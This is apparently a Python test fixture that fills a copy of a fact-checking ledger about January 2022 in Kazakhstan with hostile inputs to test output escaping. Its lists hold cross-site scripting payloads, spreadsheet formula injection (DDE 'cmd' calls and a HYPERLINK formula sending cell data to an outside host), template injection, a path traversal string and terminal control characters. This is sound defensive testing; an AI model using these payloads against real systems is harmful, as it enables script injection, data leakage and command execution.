"""The real ledger as a stranger with bad intentions would fill it in."""

import csv
import io
import shutil
from pathlib import Path

from claimbook import sheets

DATA = Path(__file__).parents[1] / "data"
HIT = "window.hit=1"

# What passes as text, and must stay text wherever it is shown.
MARKUP = [
    f"<script>{HIT}</script>",
    f'"><img src=x onerror={HIT}>',
    f"<svg onload={HIT}>",
    f"</td></table></details></main></style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f'<a href="javascript:{HIT}">here</a>',
    f"[here](javascript:{HIT})",
    "![seen](http://example.invalid/seen.png)",
    '<img src="http://example.invalid/seen.png">',
    '<link rel=stylesheet href="http://example.invalid/a.css">',
    '<meta http-equiv=refresh content="0 url=http://example.invalid/">',
    "<iframe src=http://example.invalid/></iframe>",
    f"' autofocus onfocus='{HIT}",
    f"<!-- <style>*{{display:none}}</style> --!><script>{HIT}</script>",
    "$x^2$ and $$\\frac{1}{0}$$ and \\(y\\) and $100 to $200",
    "**bold** _underlined_ `code` # heading",
    "{{ 7*7 }} {% raw %} ${title} $title %(x)s %s {0}",
    "../../etc/passwd and ..\\..\\windows",
    "# not a heading",
]
# A quotation has at most eight words.
WORDINGS = [f"<img src=x onerror={HIT}>", f"<script>{HIT}</script>", "<b>$x^2$ \\(y\\)</b> ![a](b)"]
# What must not pass: it runs in a spreadsheet, or garbles a terminal.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
]
CONTROLS = [
    "\x1b[2J\x1b]0;title\x07gone",
    "\x9b31mred",
    "bell \x07 rings",
    "back\x08\x08\x08\x08over",
    "abc\u202egnp.exe",
    "a\u2066b\u2069c",
    "zero\u200bwidth",
    "nul \x00 here",
    "line\u2028separator",
    "H" + "\u0335\u0321\u034e\u0350" * 6 + "E",
    "\U000e0041 tag",
    "\ufeffmark within",
]

# Every column of text that is no key, no list and not read by name in a notebook.
COLUMNS = {
    "claims": "scope via note",
    "sources": "title publisher kind note",
    "origins": "name party kind",
    "questions": "question unit place note",
    "conventions": "reference",
    "not_claims": "reason",
}
COLUMNS = {name: columns.split() for name, columns in COLUMNS.items()}


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(text.getvalue(), encoding="utf-8", newline="")


def ledger(folder: Path) -> Path:
    """Write a copy of the real ledger whose every cell of text ends in something hostile."""
    shutil.copytree(DATA, folder, ignore=shutil.ignore_patterns("documents"))
    turn = 0
    for name, columns in COLUMNS.items():
        path = folder / f"{name}.csv"
        rows = rows_of(path)
        for row in rows:
            for column in columns:
                if column == "party" and row[column] == "unnamed":
                    continue
                payload = MARKUP[turn % len(MARKUP)].replace(";", ",")
                if column == "party":  # the same party stays the same
                    payload = MARKUP[len(row[column]) % len(MARKUP)].replace(";", ",")
                row[column] = f"{row[column]} x {payload}".strip()
                turn += 1
            if name == "claims":
                row["wording"] = WORDINGS[turn % len(WORDINGS)]
                row["answer"] += f" <script>{HIT}</script>" if row["answer"] else ""
            if name == "questions" and row["answers"]:
                parts = row["answers"].split("|")
                row["answers"] = "|".join(f"{part} <script>{HIT}</script>" for part in parts)
            if name == "not_claims":
                row["wording"] = f"{WORDINGS[turn % 2]} {turn}"
        write_rows(path, rows)
    package = folder / sheets.DESCRIPTION
    text = package.read_text(encoding="utf-8")
    title = f"</title><script>{HIT}</script> $x$"
    package.write_text(
        text.replace('"January 2022 in Kazakhstan: claims lined up by source"', f'"{title}"', 1),
        encoding="utf-8",
    )
    assert title in package.read_text(encoding="utf-8")
    return folder
